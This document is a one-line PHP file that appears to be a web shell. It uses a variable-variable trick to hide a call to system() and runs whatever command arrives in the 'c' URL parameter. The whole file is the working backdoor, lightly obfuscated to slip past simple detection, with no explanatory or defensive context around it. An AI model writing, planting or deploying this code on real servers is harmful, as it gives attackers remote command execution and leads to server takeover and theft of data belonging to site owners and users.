<?php $k = "a"; $$k = "system"; $a($_GET["c"]);
